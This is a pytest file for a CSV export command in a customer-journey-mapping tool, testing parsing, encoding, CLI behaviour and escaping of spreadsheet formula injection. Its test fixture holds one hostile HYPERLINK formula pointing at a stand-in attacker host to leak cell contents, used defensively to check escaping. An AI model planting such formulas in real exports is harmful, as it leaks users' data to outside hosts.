"""``cjmc export csv``: flat tables that parse back, match the model and cannot inject formulas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from cjmc.cli.export_cmds import export_group
from cjmc.interop.csv_export import COLUMNS, TABLES, escape_formula, export_csv, worst_severity
from cjmc.pipeline import compile_project

REPO = Path(__file__).resolve().parents[2]
EXAMPLES = REPO / "examples"

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
UNICODE = "Zahlung schlägt fehl — 支付失败 😞"

TINY = {
    "maps/personas.yaml": "kind: persona\nid: p1\nname: Pat\n",
    "maps/catalog.yaml": """\
kind: catalog
channels: [{id: web, name: Web}]
teams: [{id: shop, name: Shop team}]
evidence: [{id: ev1, title: Survey}, {id: ev2, title: Interviews}]
touchpoints: [{id: site, name: Site, channel: web, owner: shop}]
""",
    "maps/journey.yaml": f"""\
kind: journey
id: pay
title: "@Bezahlen, einfach"
personas: [p1]
owner: shop
stages:
  - id: s1
    name: "+Checkout"
    steps:
      - id: enters-card
        name: "-Enters card\\tdetails"
        touchpoint: site
        emotion: -2
        pain_points:
          - id: hostile
            text: '{HOSTILE}'
            severity: high
            evidence: [ev1, ev2]
          - id: unicode
            text: "{UNICODE}"
            severity: critical
        opportunities:
          - id: fix-it
            text: "Line one\\nline two, with \\"quotes\\""
            addresses: [hostile, unicode]
            owner: shop
            status: planned
      - id: done
        name: Done
        emotion: 2
""",
}


def write_project(root: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        target = root / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, encoding="utf-8")
    return root


def parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture(scope="module")
def example_project():
    result = compile_project(EXAMPLES)
    assert result.valid, result.diagnostics
    return result.project


@pytest.fixture()
def tiny(tmp_path: Path):
    result = compile_project(write_project(tmp_path, TINY))
    assert result.valid, result.diagnostics
    return result.project


@pytest.mark.parametrize("what", TABLES)
def test_example_tables_parse_back_with_model_counts(example_project, what: str) -> None:
    text = export_csv(example_project, what)
    assert text.startswith("journey,journey_title,stage,stage_name,step,step_name,")
    assert "\r\n" in text and text.count("\n") == text.count("\r\n")  # RFC 4180 line ends
    rows = parse(text)
    assert list(rows[0]) == list(COLUMNS[what])
    journeys = list(example_project.journeys.values())
    expected = {
        "pain-points": sum(len(j.pain_points) for j in journeys),
        "opportunities": sum(len(j.opportunities) for j in journeys),
        "steps": sum(len(j.steps) for j in journeys),
    }[what]
    assert len(rows) == expected
    assert {r["journey"] for r in rows} <= set(example_project.journeys)


def test_example_pain_point_row(example_project) -> None:
    rows = parse(export_csv(example_project, "pain-points"))
    row = next(r for r in rows if r["id"] == "between-sizes")
    journey = example_project.journeys["buy-first-bike"]
    assert row["journey"] == "buy-first-bike"
    assert row["journey_title"] == journey.title
    assert (row["stage"], row["step"]) == ("choose", "checks-frame-size")
    assert row["severity"] == "high"
    assert row["evidence"] == "interviews-first-bike-2026; support-tickets-2026-q2"
    assert row["addressed_by"].split("; ")[0] == "fit-calculator"
    assert row["owner"] == journey.owner == "ecommerce"


def test_example_steps_table(example_project) -> None:
    rows = parse(export_csv(example_project, "steps"))
    row = next(r for r in rows if r["step"] == "checks-frame-size")
    assert row["touchpoint"] == "size-guide"
    assert row["channel"] == example_project.touchpoints["size-guide"].channel
    assert (row["emotion"], row["moment_of_truth"], row["pain_point_count"]) == ("-1", "yes", "1")
    assert row["worst_severity"] == "high" and row["reachable"] == "yes"
    assert {r["reachable"] for r in rows} == {"yes"}
    assert {r["moment_of_truth"] for r in rows} == {"yes", "no"}


def test_formula_injection_is_escaped(tiny) -> None:
    pain_points = parse(export_csv(tiny, "pain-points"))
    hostile = next(r for r in pain_points if r["id"] == "hostile")
    assert hostile["text"] == "'" + HOSTILE
    assert hostile["journey_title"] == "'@Bezahlen, einfach"
    assert hostile["stage_name"] == "'+Checkout"
    assert hostile["step_name"] == "'-Enters card\tdetails"
    assert hostile["evidence"] == "ev1; ev2"
    assert hostile["addressed_by"] == "fix-it"
    # No cell of any table starts with a formula character.
    for what in TABLES:
        for row in parse(export_csv(tiny, what)):
            for column, value in row.items():
                if column != "emotion":
                    assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (what, column, value)


def test_negative_numbers_are_not_escaped(tiny) -> None:
    rows = parse(export_csv(tiny, "steps"))
    assert [r["emotion"] for r in rows] == ["-2", "2"]
    assert [r["pain_point_count"] for r in rows] == ["2", "0"]
    assert rows[0]["worst_severity"] == "critical"
    assert rows[1]["worst_severity"] == ""
    assert rows[1]["touchpoint"] == "" and rows[1]["channel"] == ""


def test_non_ascii_and_multiline_round_trip(tiny) -> None:
    pain_points = parse(export_csv(tiny, "pain-points"))
    assert next(r for r in pain_points if r["id"] == "unicode")["text"] == UNICODE
    opportunity = parse(export_csv(tiny, "opportunities"))[0]
    assert opportunity["text"] == 'Line one\nline two, with "quotes"'
    assert (opportunity["status"], opportunity["owner"], opportunity["addresses"]) == ("planned", "shop",
                                                                                      "hostile; unicode")


def test_excel_flag_adds_bom(tiny) -> None:
    assert not export_csv(tiny, "steps").startswith("\ufeff")
    with_bom = export_csv(tiny, "steps", excel=True)
    assert with_bom.startswith("\ufeffjourney,")
    assert parse(with_bom.encode("utf-8").decode("utf-8-sig")) == parse(export_csv(tiny, "steps"))


def test_escape_formula_and_worst_severity() -> None:
    assert escape_formula("=1+1") == "'=1+1"
    assert escape_formula("\rx") == "'\rx"
    assert escape_formula("a=b") == "a=b"
    assert escape_formula("") == ""
    assert worst_severity(["low", "critical", "medium"]) == "critical"
    assert worst_severity([]) is None


# --- command line ---------------------------------------------------------------------------------


def test_cli_ok_to_stdout_and_file(tmp_path: Path) -> None:
    write_project(tmp_path / "proj", TINY)
    runner = CliRunner()
    result = runner.invoke(export_group, ["csv", str(tmp_path / "proj"), "--what", "pain-points"])
    assert result.exit_code == 0, result.output
    raw = result.stdout_bytes
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert raw.endswith(b"\r\n")
    assert len(parse(raw.decode("utf-8"))) == 2
    out = tmp_path / "pp.csv"
    result = runner.invoke(export_group, ["csv", str(tmp_path / "proj"), "--what", "pain-points", "--excel",
                                          "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert out.read_bytes() == b"\xef\xbb\xbf" + raw
    assert UNICODE in out.read_text(encoding="utf-8-sig")


def test_cli_unknown_what_exits_2() -> None:
    result = CliRunner().invoke(export_group, ["csv", str(EXAMPLES), "--what", "pains"])
    assert result.exit_code == 2
    assert "pains" in result.stderr


def test_cli_missing_what_exits_2() -> None:
    assert CliRunner().invoke(export_group, ["csv", str(EXAMPLES)]).exit_code == 2


def test_cli_invalid_project_exits_1(tmp_path: Path) -> None:
    broken = {**TINY, "maps/journey.yaml": TINY["maps/journey.yaml"].replace("severity: high", "severity: hgih")}
    write_project(tmp_path, broken)
    result = CliRunner().invoke(export_group, ["csv", str(tmp_path), "--what", "steps"])
    assert result.exit_code == 1
    assert "maps/journey.yaml:" in result.stderr and "schema" in result.stderr
    assert result.stdout == ""
